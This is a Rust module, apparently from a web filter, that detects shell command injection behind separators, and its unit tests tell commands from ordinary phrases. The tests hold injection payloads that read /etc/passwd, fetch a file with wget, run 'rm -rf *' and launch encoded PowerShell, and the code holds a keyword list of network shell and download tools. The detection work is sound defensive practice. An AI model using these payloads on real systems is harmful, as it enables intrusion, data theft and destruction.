//! Shell commands behind a separator: `; cat /etc/passwd`, `| id`, `$(wget ...)`, `` `id` ``.

/// How much must follow a command's name for it to be a command and not a word.
#[derive(Clone, Copy, PartialEq)]
enum Need {
    /// Nothing: the name is no word of any language.
    Nothing,
    /// The end of the text, another separator, or an argument that is technical.
    Argument,
}

/// The sign of a shell command in a decoded text, if it has one.
pub(crate) fn judge(text: &[u8]) -> Option<&'static str> {
    let mut at = 0_usize;
    // A text of separators alone would cost a look each: the first few hundred suffice.
    for _ in 0..512 {
        let rest = text.get(at..)?;
        let found = rest
            .iter()
            .position(|byte| matches!(byte, b';' | b'|' | b'&' | b'`' | b'$' | b'\n'))?;
        let after = rest.get(found.saturating_add(1)..).unwrap_or_default();
        at = at.saturating_add(found).saturating_add(1);
        // `fields=name|id` is a list: a lone word behind a word is no command.
        let listed =
            found.checked_sub(1).and_then(|at| rest.get(at)).is_some_and(u8::is_ascii_alphabetic);
        let tight = match rest.get(found) {
            Some(b'$') if after.first() == Some(&b'(') => {
                if command(after.get(1..).unwrap_or_default(), true, true) {
                    return Some("shell-substitution");
                }
                continue;
            }
            Some(b'$') => continue,
            Some(b'`') => {
                if memchr::memchr(b'`', after).is_some() && command(after, true, true) {
                    return Some("shell-substitution");
                }
                continue;
            }
            Some(b'|') => true,
            _ => !after.first().is_some_and(u8::is_ascii_whitespace),
        };
        let after = after.strip_prefix(b"|").or_else(|| after.strip_prefix(b"&")).unwrap_or(after);
        if command(after, tight, !listed) {
            return Some("shell-command");
        }
    }
    None
}

/// Whether `text` begins with a command. `tight`: the separator stands directly before it or is one
/// that language does not use. `alone`: a command without arguments is believed.
fn command(text: &[u8], tight: bool, alone: bool) -> bool {
    // A command and its first argument: what follows is not looked at, which bounds the work.
    let text = text.get(..256).unwrap_or(text).trim_ascii_start();
    let text = text.strip_prefix(b"{").unwrap_or(text);
    let named = program(text);
    let alone = alone || named.len() < text.len();
    let text = named;
    let len = text
        .iter()
        .take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.'))
        .count();
    let (name, rest) = text.split_at(len.min(text.len()));
    let Some(need) = need(name) else { return false };
    let bare = tight && (need == Need::Nothing || alone && is_bare(name));
    match rest.first() {
        None => bare,
        Some(b'-' | b'=' | b':' | b'\'') => false,
        Some(b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'\n') => bare,
        Some(b' ' | b'\t' | b'<' | b'>' | b'$') => {
            need == Need::Nothing && tight
                || technical(rest)
                || bare && rest.trim_ascii().is_empty()
        }
        _ => false,
    }
}

/// Commands that are run without arguments.
fn is_bare(name: &[u8]) -> bool {
    matches!(
        name,
        b"id" | b"ls" | b"ps" | b"dir" | b"env" | b"pwd" | b"ver" | b"df" | b"sh" | b"reboot"
    )
}

/// Skips the folder of a program: `/usr/bin/id` is `id`.
fn program(text: &[u8]) -> &[u8] {
    const FOLDERS: [&[u8]; 5] =
        [b"/bin/", b"/usr/bin/", b"/sbin/", b"/usr/sbin/", b"/usr/local/bin/"];
    FOLDERS.iter().find_map(|folder| text.strip_prefix(*folder)).unwrap_or(text)
}

/// Whether an argument is one that commands get: an option, a path, a variable, an address.
fn technical(rest: &[u8]) -> bool {
    let rest = rest.strip_prefix(b"${ifs}").unwrap_or(rest);
    let argument = rest.trim_ascii_start();
    let end = argument.iter().position(u8::is_ascii_whitespace).unwrap_or(argument.len());
    let first = argument.get(..end).unwrap_or_default();
    match first {
        [b'-', letter, ..] => letter.is_ascii_alphanumeric(),
        [b'/' | b'$' | b'\\' | b'<' | b'>' | b'~' | b'.' | b'*', _, ..] => true,
        _ => {
            memchr::memmem::find(argument, b"> /").is_some()
                || memchr::memmem::find(first, b"://").is_some()
                || memchr::memmem::find(first, b":\\").is_some()
                || is_address(first)
                || matches!(first.last(), Some(b';' | b'|' | b'&' | b'`')) && first.len() > 1
                || first.iter().any(|byte| matches!(byte, b'/' | b'|' | b'>' | b'`' | b'$'))
        }
    }
}

fn is_address(text: &[u8]) -> bool {
    text.iter().filter(|byte| **byte == b'.').count() == 3
        && text.iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b':'))
}

/// What a command's name needs. Words of everyday language need an argument that is technical.
fn need(name: &[u8]) -> Option<Need> {
    let name = name.strip_suffix(b".exe").unwrap_or(name);
    match name {
        b"whoami" | b"uname" | b"wget" | b"curl" | b"ncat" | b"netcat" | b"bash" | b"zsh"
        | b"ksh" | b"nslookup" | b"powershell" | b"pwsh" | b"certutil" | b"bitsadmin"
        | b"chmod" | b"busybox" | b"tftp" | b"ifconfig" | b"ipconfig" | b"netstat"
        | b"printenv" | b"tasklist" | b"systeminfo" | b"phpinfo" | b"mkfifo" | b"crontab"
        | b"rundll32" | b"mshta" | b"regsvr32" | b"cscript" | b"wscript" | b"python3"
        | b"nohup" | b"xxd" | b"dnslookup" | b"traceroute" | b"tracert" | b"lwp" | b"socat"
        | b"iptables" | b"killall" => Some(Need::Nothing),
        b"cat" | b"ls" | b"id" | b"nc" | b"sh" | b"ping" | b"sleep" | b"dig" | b"host"
        | b"perl" | b"python" | b"php" | b"ruby" | b"cmd" | b"echo" | b"rm" | b"touch" | b"ps"
        | b"env" | b"type" | b"dir" | b"net" | b"expr" | b"base64" | b"telnet" | b"head"
        | b"tail" | b"less" | b"more" | b"nl" | b"tac" | b"cp" | b"mv" | b"find" | b"grep"
        | b"awk" | b"sed" | b"cd" | b"w" | b"pwd" | b"su" | b"sudo" | b"exec" | b"kill"
        | b"node" | b"timeout" | b"ip" | b"arp" | b"df" | b"set" | b"export" | b"mail"
        | b"printf" | b"start" | b"reboot" | b"hostname" | b"ftp" | b"openssl" | b"apt"
        | b"yum" | b"ver" | b"mount" | b"dd" | b"tar" | b"scp" | b"ssh" => Some(Need::Argument),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands() {
        for text in [
            ";id",
            "|id",
            "x;cat /etc/passwd",
            "; cat /etc/passwd",
            "a && whoami",
            "| ls -la",
            "`id`",
            "$(uname -a)",
            "1;sleep 5;",
            "& ping -c 3 192.0.2.1 &",
            "x|/bin/sh",
            "a;wget http://example.org/x",
            "\ncat /etc/hosts",
            "$(/usr/bin/id)",
            "||nslookup x.example.org",
            "1 | dir c:\\",
            ";cd /tmp; rm -rf *",
            "|powershell -enc aaaa",
            "; echo vulnerable > /tmp/x",
            "`sleep 5`",
        ] {
            assert!(judge(text.as_bytes()).is_some(), "{text}");
        }
    }

    #[test]
    fn language() {
        for text in [
            "r&d; drop-off",
            "fish; cat food",
            "need photo; id",
            "a & b",
            "salt & pepper",
            "at&t",
            "type a; type b",
            "vote; find polling place",
            "$5; $10",
            "cats & dogs",
            "q&a; more later",
            "bring id; mail it",
            "smith; host of show",
            "rock & roll; head north",
            "tom | jerry",
            "it costs $(5)",
            "men & women; set a date",
            "price; net of tax",
            "dr. who; w",
            "a;b;c",
        ] {
            assert_eq!(judge(text.as_bytes()), None, "{text}");
        }
    }
}
